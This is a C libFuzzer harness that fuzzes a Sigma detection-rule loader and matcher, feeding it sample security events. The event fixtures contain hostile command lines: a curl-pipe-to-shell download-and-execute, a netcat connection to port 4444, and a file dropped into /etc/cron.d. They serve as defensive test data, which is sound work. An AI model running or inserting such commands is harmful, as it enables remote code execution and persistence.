/* SPDX-License-Identifier: GPL-3.0-or-later */
/* libFuzzer target: the Sigma loader and compiler, then a matcher over a few events of each
 * source (process, network, file, audit records) and a tick that closes correlation windows. */
#include "config.h"

#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <jansson.h>

#include "vigil/error.h"
#include "vigil/sigma.h"

static const char *const events[] = {
	"{\"class_uid\":1007,\"activity_id\":1,\"process\":{\"pid\":42,\"cmd_line\":\"sh -c curl http://x | base64 -d | sh\","
	"\"file\":{\"path\":\"/usr/bin/dash\",\"hashes\":[{\"algorithm_id\":3,\"value\":\"ab\"}]},\"user\":{\"name\":\"root\"},"
	"\"working_directory\":\"/tmp\",\"parent_process\":{\"file\":{\"path\":\"/bin/bash\"},\"cmd_line\":\"bash\"}},"
	"\"unmapped\":{\"audit\":[{\"type\":\"SYSCALL\",\"SYSCALL\":\"execve\",\"exe\":\"/usr/bin/dash\",\"a0\":\"3\"},"
	"{\"type\":\"EXECVE\",\"argc\":\"3\",\"a0\":\"sh\",\"a1\":\"-c\",\"a2\":[\"x\",\"y\"]},{\"type\":\"CWD\",\"cwd\":null}]}}",
	"{\"class_uid\":4001,\"activity_id\":1,\"actor\":{\"process\":{\"file\":{\"path\":\"/usr/bin/nc\"},\"pid\":7}},"
	"\"dst_endpoint\":{\"ip\":\"10.1.2.3\",\"port\":4444,\"hostname\":\"x.example\"},\"src_endpoint\":{\"ip\":\"fe80::1\","
	"\"port\":51000},\"connection_info\":{\"direction_id\":2,\"protocol_name\":\"tcp\"}}",
	"{\"class_uid\":1001,\"activity_id\":5,\"actor\":{\"process\":{\"file\":{\"path\":\"/usr/bin/mv\"}}},"
	"\"file\":{\"path\":\"/tmp/x\"},\"file_result\":{\"path\":\"/etc/cron.d/x\"},\"time\":1772334900000}",
};

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static const char *const admins[] = { "root", "adm*" };
	struct vg_sigma_limits lim;
	struct vg_sigma_set *set = NULL;
	struct vg_sigma_matcher *m = NULL;
	struct vg_error err;

	vg_sigma_limits_init(&lim);
	/* Keep one run short: catastrophic patterns stop at these limits. */
	lim.regex_match_limit = 10000;
	lim.max_values = 512;
	lim.corr_max_groups = 16;
	lim.corr_max_events = 16;
	if (vg_sigma_set_new(&lim, &set) < 0)
		return 0;
	vg_sigma_set_placeholder(set, "Administrators", admins, 2);
	vg_sigma_set_add_memory(set, (const char *)data, size, "fuzz.yml", &err);
	if (vg_sigma_set_compile(set, &err) == 0 && vg_sigma_matcher_new(set, &m) == 0) {
		for (int round = 0; round < 2; round++)
			for (size_t i = 0; i < sizeof(events) / sizeof(events[0]); i++) {
				json_t *ev = json_loads(events[i], 0, NULL);

				vg_sigma_matcher_eval_ocsf(m, ev, i, (int64_t)(round * 3 + i) * 1000);
				for (size_t k = 0; k < vg_sigma_matcher_count(m); k++)
					(void)vg_sigma_rule_info(vg_sigma_matcher_match(m, k)->rule)->title;
				json_decref(ev);
			}
		vg_sigma_matcher_tick(m, 86400000);
		vg_sigma_matcher_free(m);
	}
	for (size_t i = 0; i < vg_sigma_set_reject_count(set); i++)
		(void)strlen(vg_sigma_set_reject(set, i)->error.message);
	vg_sigma_set_free(set);
	return 0;
}
